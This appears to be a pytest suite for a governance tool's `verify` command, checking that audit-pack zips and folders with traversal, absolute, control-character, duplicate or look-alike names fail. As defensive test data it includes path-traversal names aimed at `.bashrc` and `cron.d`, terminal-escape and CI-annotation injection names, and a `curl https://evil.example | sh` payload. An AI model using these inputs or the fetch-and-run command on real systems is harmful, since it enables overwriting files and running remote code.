"""`govctl verify` and the names inside a pack (SPEC §4, issue 14): manifest entries, zip
members and the files of a pack folder must be normalised relative POSIX paths, each once.
Anything else — an absolute path, a `..`, `.` or empty segment, a backslash, a control
character or NUL, a name listed twice — fails (exit 1, named), and no path outside the pack
is ever opened: a zip whose manifest vouched for `../../../../home/auditor/.bashrc` was
called intact."""

from __future__ import annotations

import hashlib
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from govctl.documents import verify as verify_module
from govctl.documents.manifest import name_problem
from govctl.documents.verify import verify_pack
from tests.conftest import init_git
from tests.factory import AS_OF
from tests.history_support import BOB, commit

USE_CASE = "claims-triage"
BASHRC = "../../../../home/auditor/.bashrc"


@pytest.fixture(scope="module")
def pack_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One real audit pack, built once (tests copy what they change)."""
    from govctl.cli.main import run
    from tests.factory import RepoFactory

    base = tmp_path_factory.mktemp("verify-names")
    factory = RepoFactory(base / "repo").build()
    init_git(factory.root)
    commit(factory.root, BOB, "2026-10-01T09:00:00Z", "governance records")
    out = base / "pack"
    assert run(["audit-pack", USE_CASE, "-o", str(out), "--root", str(factory.root),
                "--as-of", AS_OF]) == 0
    return out


def _files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _entry(data: bytes) -> dict[str, Any]:
    return {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}


def make_zip(pack: Path, out: Path, members: dict[str, bytes] | None = None,
             listed: dict[str, bytes] | None = None, raw_names: dict[str, bytes] | None = None,
             manifest_text: str | None = None) -> Path:
    """The real pack as a zip, with ``members`` added to the zip and ``listed`` added to the
    manifest (with their true hashes: only the name can be wrong). ``raw_names`` rewrites
    stored names byte for byte (zipfile itself cuts a name at NUL)."""
    files = _files(pack)
    manifest = json.loads(files.pop("manifest.json"))
    for name, data in (listed or {}).items():
        manifest["files"][name] = _entry(data)
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in {**files, **(members or {})}.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
        archive.writestr("manifest.json", manifest_text or json.dumps(manifest))
    if raw_names:
        blob = out.read_bytes()
        for placeholder, real in raw_names.items():
            assert len(placeholder.encode()) == len(real)
            blob = blob.replace(placeholder.encode(), real)
        out.write_bytes(blob)
    return out


def verify_json(govctl: Any, pack: Path, cwd: Path) -> tuple[int, dict[str, Any]]:
    result = govctl("verify", pack, "--format", "json", cwd=cwd)
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    return result.code, json.loads(result.stdout)


BAD_NAMES = {
    "parent": BASHRC,
    "parent-inside": "evidence/../README.md.bak",
    "absolute": "/home/auditor/.bashrc",
    "dot-segment": "./README2.md",
    "dot-inside": "evidence/./x.yaml",
    "empty-segment": "evidence//x.yaml",
    "backslash": "..\\..\\home\\auditor\\.bashrc",
    "escape": "notes\x1b]52;c;ZXZpbA==\x07.md",
    "newline": "notes\n::error::all good.md",
    "c1": "notes\x85.md",
    "del": "notes\x7f.md",
}


@pytest.mark.parametrize("name", BAD_NAMES.values(), ids=BAD_NAMES)
def test_name_rules(name):
    assert name_problem(name) is not None
    assert name_problem("evidence/" + "a" * 40 + "/use-cases/triage.yaml") is None


@pytest.mark.parametrize("name", BAD_NAMES.values(), ids=BAD_NAMES)
def test_a_listed_member_whose_name_leaves_the_pack_fails(pack_folder, govctl, tmp_path,
                                                          name):
    """Listed in the manifest with the right hash and present in the zip: still not intact,
    and the entry is named."""
    data = b"curl https://evil.example | sh\n"
    archive = make_zip(pack_folder, tmp_path / "evil.zip", members={name: data},
                       listed={name: data})
    code, payload = verify_json(govctl, archive, tmp_path)
    assert code == 1 and payload["intact"] is False
    named = [entry for entry in payload["altered"] if entry.startswith(name + " (")]
    assert named and "normalised relative path" in named[0], payload
    text = govctl("verify", archive, cwd=tmp_path)
    assert text.code == 1 and "NOT intact" in text.stdout


@pytest.mark.parametrize("name", BAD_NAMES.values(), ids=BAD_NAMES)
def test_an_unlisted_member_with_such_a_name_fails(pack_folder, govctl, tmp_path, name):
    archive = make_zip(pack_folder, tmp_path / "extra.zip", members={name: b"x\n"})
    code, payload = verify_json(govctl, archive, tmp_path)
    assert code == 1
    assert any(entry.startswith(name + " (") and "normalised" in entry
               for entry in payload["added"]), payload


def test_a_manifest_entry_outside_the_pack_is_never_opened(pack_folder, govctl, tmp_path):
    """A folder pack whose manifest lists ../outside.txt, which exists beside the pack with
    exactly the listed bytes: it fails by its name, not by a lookup."""
    folder = tmp_path / "pack"
    for rel, data in _files(pack_folder).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    secret = b"the auditor's secret\n"
    (tmp_path / "outside.txt").write_bytes(secret)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"]["../outside.txt"] = _entry(secret)
    (folder / "manifest.json").write_text(json.dumps(manifest))
    code, payload = verify_json(govctl, folder, tmp_path)
    assert code == 1
    assert payload["altered"] == ["../outside.txt (manifest entry is not a normalised relative "
                                  "path: a '..' path segment)"]
    assert payload["removed"] == [] and payload["added"] == []


def test_a_nul_in_a_stored_zip_name_fails(pack_folder, govctl, tmp_path):
    """zipfile cuts a name at NUL ("notes\\0.sh" reads as "notes"): the stored name counts."""
    data = b"x\n"
    archive = make_zip(pack_folder, tmp_path / "nul.zip", members={"notesX.sh": data},
                       listed={"notes": data}, raw_names={"notesX.sh": b"notes\x00.sh"})
    code, payload = verify_json(govctl, archive, tmp_path)
    assert code == 1
    assert any(entry.startswith("notes\x00.sh (") for entry in payload["added"]), payload
    assert "notes" in payload["removed"]  # the cut name is not a member of the pack


def test_a_directory_entry_that_leaves_the_pack_fails(pack_folder, govctl, tmp_path):
    archive = make_zip(pack_folder, tmp_path / "dir.zip", members={"../../etc/cron.d/": b""})
    code, payload = verify_json(govctl, archive, tmp_path)
    assert code == 1
    assert any(entry.startswith("../../etc/cron.d/ (") for entry in payload["added"])


def test_a_member_stored_twice_fails(pack_folder, govctl, tmp_path):
    """Tools disagree on which of two same-named members they show: the manifest can vouch
    for neither."""
    archive = make_zip(pack_folder, tmp_path / "twice.zip")
    readme = _files(pack_folder)["README.md"]
    with pytest.warns(UserWarning, match="Duplicate name"), \
            zipfile.ZipFile(archive, "a") as handle:
        handle.writestr("README.md", readme.replace(b"#", b"# forged", 1))
    code, payload = verify_json(govctl, archive, tmp_path)
    assert code == 1
    assert "README.md (duplicate entry in the zip)" in payload["added"]


def test_a_manifest_that_lists_a_name_twice_fails(pack_folder, govctl, tmp_path):
    """JSON keeps the last of two equal keys; which one did the packer mean?"""
    files = _files(pack_folder)
    text = files["manifest.json"].decode()
    readme = json.dumps(_entry(files["README.md"]))
    twice = text.replace('"files": {', f'"files": {{\n    "README.md": {readme},', 1)
    assert twice != text
    archive = make_zip(pack_folder, tmp_path / "keys.zip", manifest_text=twice)
    code, payload = verify_json(govctl, archive, tmp_path)
    assert code == 1
    assert "manifest.json (names 'README.md' twice)" in payload["altered"]


@pytest.mark.parametrize("name", ["notes\x1b[2J.md", "back\\slash.md", "line\nbreak.md"],
                         ids=["escape", "backslash", "newline"])
def test_a_file_of_a_folder_pack_with_such_a_name_fails(pack_folder, govctl, tmp_path, name):
    folder = tmp_path / "pack"
    for rel, data in _files(pack_folder).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    (folder / name).write_bytes(b"x\n")
    code, payload = verify_json(govctl, folder, tmp_path)
    assert code == 1
    assert any(entry.startswith(name + " (") and "normalised" in entry
               for entry in payload["added"]), payload


def test_a_file_swapped_for_a_link_after_the_scan_is_never_followed(pack_folder, tmp_path,
                                                                    monkeypatch):
    """Between listing the folder and hashing a file, README.md becomes a link to a copy
    outside the pack with the very same bytes: it must not pass as intact."""
    folder = tmp_path / "pack"
    for rel, data in _files(pack_folder).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    outside = tmp_path / "outside-README.md"
    outside.write_bytes((folder / "README.md").read_bytes())
    scan = verify_module._PackReader._scan_folder

    def scan_then_swap(self: Any) -> None:
        scan(self)
        (folder / "README.md").unlink()
        (folder / "README.md").symlink_to(outside)

    monkeypatch.setattr(verify_module._PackReader, "_scan_folder", scan_then_swap)
    result = verify_pack(folder)
    assert not result.intact
    assert [a for a in result.altered if a.startswith("README.md (unreadable")], result


def test_the_real_pack_is_still_intact(pack_folder, govctl, tmp_path):
    archive = make_zip(pack_folder, tmp_path / "plain.zip")
    for target in (pack_folder, archive):
        code, payload = verify_json(govctl, target, tmp_path)
        assert code == 0 and payload["intact"], payload


# -- names that are one file once unpacked on macOS or Windows (issue 16) ----------------------

CAFE_NFC = "notes/caf\u00e9.md"
CAFE_NFD = "notes/cafe\u0301.md"


def test_name_clashes():
    from govctl.documents.manifest import name_clashes

    assert name_clashes(["README.md", "readme.md", "mapping.md"]) == {"readme.md": "README.md"}
    # (the later name in code point order is the look-alike: NFD's "e" sorts before "é")
    assert name_clashes([CAFE_NFC, CAFE_NFD]) == {CAFE_NFC: CAFE_NFD}
    assert name_clashes(["evidence/a/X.YAML", "evidence/A/x.yaml"]) == {
        "evidence/a/X.YAML": "evidence/A/x.yaml"}
    assert name_clashes(["stra\u00dfe.md", "STRASSE.md"]) == {"stra\u00dfe.md": "STRASSE.md"}
    # the manifest is never the look-alike: what overwrites it is named
    assert name_clashes(["MANIFEST.json", "manifest.json"], first=["manifest.json"]) == {
        "MANIFEST.json": "manifest.json"}
    assert name_clashes(["a.md", "b.md", "a.md.txt"]) == {}


CLASHES = {"case": ("README.md", "readme.md"), "nfc-nfd": (CAFE_NFC, CAFE_NFD),
           "folder-case": ("evidence/x/Policy.yaml", "EVIDENCE/x/policy.yaml")}


@pytest.mark.parametrize("pair", CLASHES.values(), ids=CLASHES)
def test_names_that_differ_only_by_case_or_normalisation_fail_in_a_zip(pack_folder, govctl,
                                                                       tmp_path, pair):
    """Both listed in the manifest with their true hashes, both present: on Linux two
    files, on macOS or Windows one overwrites the other when unpacked — the reader sees
    bytes the manifest vouches for under another name. Not intact."""
    first, second = pair
    earlier, later = sorted(pair)  # the later one in code point order is named
    files = _files(pack_folder)
    one = files.get(first, b"the first\n")
    other = b"the second: overwrites the first when unpacked\n"
    archive = make_zip(pack_folder, tmp_path / "clash.zip",
                       members={first: one, second: other}, listed={first: one, second: other})
    code, payload = verify_json(govctl, archive, tmp_path)
    assert code == 1 and payload["intact"] is False
    clash = [a for a in payload["altered"] if a.startswith(f"{later} (the same file as ")]
    assert clash and f"as {earlier!r}" in clash[0], payload
    assert "case or Unicode normalisation" in clash[0], payload
    assert not any(a.startswith(f"{earlier} (") for a in payload["altered"]), payload


def test_a_look_alike_of_the_manifest_fails(pack_folder, govctl, tmp_path):
    """MANIFEST.JSON would replace manifest.json when unpacked on macOS."""
    archive = make_zip(pack_folder, tmp_path / "manifest.zip",
                       members={"MANIFEST.JSON": b"{}"})
    code, payload = verify_json(govctl, archive, tmp_path)
    assert code == 1
    assert any(a.startswith("MANIFEST.JSON (the same file as 'manifest.json'")
               for a in payload["added"]), payload


def test_names_that_differ_only_by_normalisation_fail_in_a_folder(pack_folder, govctl,
                                                                   tmp_path):
    folder = tmp_path / "pack"
    for rel, data in _files(pack_folder).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    (folder / "notes").mkdir()
    try:
        (folder / CAFE_NFC).write_bytes(b"one\n")
        (folder / CAFE_NFD).write_bytes(b"two\n")
    except OSError:
        pytest.skip("this file system cannot hold both names")
    if len(list((folder / "notes").iterdir())) != 2:
        pytest.skip("this file system folds Unicode normalisation")
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"][CAFE_NFC] = _entry(b"one\n")
    manifest["files"][CAFE_NFD] = _entry(b"two\n")
    (folder / "manifest.json").write_text(json.dumps(manifest))
    code, payload = verify_json(govctl, folder, tmp_path)
    assert code == 1
    assert any(a.startswith(f"{CAFE_NFC} (the same file as ") for a in payload["altered"])
